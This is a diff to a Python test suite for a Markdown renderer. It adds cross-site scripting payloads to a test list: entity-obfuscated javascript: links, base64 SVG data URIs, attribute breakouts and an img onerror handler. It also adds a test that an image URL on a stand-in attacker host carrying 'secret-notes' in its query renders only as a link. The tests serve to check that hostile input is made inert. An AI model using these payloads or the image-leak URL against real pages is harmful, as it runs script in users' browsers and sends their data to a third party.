@@ -34,6 +34,14 @@ PAYLOADS = [
     '"><script>alert(1)</script>',
     "`<script>alert(1)</script>`",
     "```html\n<script>alert(1)</script>\n```",
+    "[x](javascript&colon;alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "[![x](https://example.com/a.png)](javascript:alert(1))",
+    '[x](https://example.com/"onmouseover="alert(1))',
+    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
+    "line one\n<img src=x onerror=alert(1)>\nline two",
 ]
 
 FORBIDDEN_TAGS = {"script", "iframe", "svg", "math", "object", "embed", "style", "base", "meta"}
@@ -132,3 +140,11 @@ def test_a_hostile_thread_renders_inert_in_every_page(viewer_client: Client) -> 
         assert response.status_code == 200
         # The page's own scripts, all from /static/, are the only ones.
         _assert_inert(response.content.decode(), own_scripts=True)
+
+
+def test_markdown_images_in_message_text_are_links_never_loaded_by_the_browser() -> None:
+    html = render_markdown("leak ![chart *q3*](https://evil.example/p.png?d=secret-notes)")
+    assert "<img" not in html
+    assert 'href="https://evil.example/p.png?d=secret-notes"' in html
+    assert "chart q3" in html
+    assert "<img" not in render_markdown("![x](data:image/png;base64,AAAA)")
